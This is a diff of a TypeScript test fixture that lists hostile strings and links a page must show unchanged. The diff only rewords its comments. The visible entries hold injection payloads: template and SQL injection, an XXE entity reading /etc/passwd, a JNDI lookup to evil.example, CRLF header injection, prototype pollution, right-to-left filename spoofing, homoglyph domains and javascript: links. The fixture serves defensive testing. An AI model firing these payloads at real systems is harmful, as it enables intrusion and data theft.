@@ -1,6 +1,6 @@
 /**
- * Texts that somebody who may send, or name things, could send to do harm: each of them is data, to be shown as it is.
- * `trip()` is what a page under test notices when any of it is run.
+ * Harmful texts that a sender could put into notifications and names. They are data and must be displayed unchanged.
+ * A page under test detects a call of `trip()`.
  */
 export const HOSTILE_TEXTS: readonly string[] = [
   // Markup that runs scripts.
@@ -68,7 +68,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   "<x-element style='position:fixed;inset:0;background:red'>everything is red</x-element>",
   "<dialog open>Your session has ended: <input type=password></dialog>",
   "<slot name=x></slot><div id=root></div><div id=main>",
-  // Templates, of whatever engine.
+  // Templates of several engines.
   "{{constructor.constructor('trip()')()}}",
   "{{7*7}}",
   "{{title}}",
@@ -83,7 +83,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   "%{trip()}",
   "__MSG_name__",
   "#if($x)trip()#end",
-  // Names that mean something in JavaScript.
+  // Names with a meaning in JavaScript.
   "__proto__",
   "constructor",
   "prototype",
@@ -99,7 +99,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   "1e309",
   "[object Object]",
   '{"__proto__":{"isAdmin":true}}',
-  // Writing that turns around, hides or piles up.
+  // Bidirectional, invisible and stacked characters.
   "\u202Egnp.exe\u202C",
   "\u2066\u202Etxt.evil\u2069",
   "invoice\u202Efdp.exe",
@@ -129,7 +129,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   "ß ẞ ﬁ İ ı ſ K Å",
   "рауpal.com in Cyrillic",
   "ⓗⓘⓓⓓⓔⓝ ｗｉｄｅ",
-  // Length without a place to break.
+  // Long texts without a place to break.
   "W".repeat(1_000),
   "i".repeat(1_000),
   "long-".repeat(200),
@@ -148,7 +148,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   "line\r\nSet-Cookie: a=b\r\n\r\n<html>",
   "\r\nevent: notification\ndata: {}\n\n",
   "id: 1\nretry: 1\n\n",
-  // Texts that other programs would take for commands.
+  // Texts that other programs would run as commands.
   "%s%s%s%n%x",
   "%d %i %@ {0} {name}",
   "'; drop table account; --",
@@ -170,7 +170,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '{"$gt":""}',
   "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
   "${jndi:ldap://evil.example/x}",
-  // Markdown, which is none here.
+  // Markdown, which must not be rendered.
   "[click](javascript:trip())",
   "![x](https://evil.example/pixel.png)",
   '[x]: https://evil.example "onmouseover=trip()"',
@@ -180,7 +180,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   "|a|b|\n|-|-|\n|c|d|",
 ];
 
-/** Links that a page must not lead to, and some that only look like what they are not. */
+/** Links that a page must not open, and links that look different from their target. */
 export const HOSTILE_LINKS: readonly string[] = [
   "javascript:trip()",
   "JaVaScRiPt:trip()",
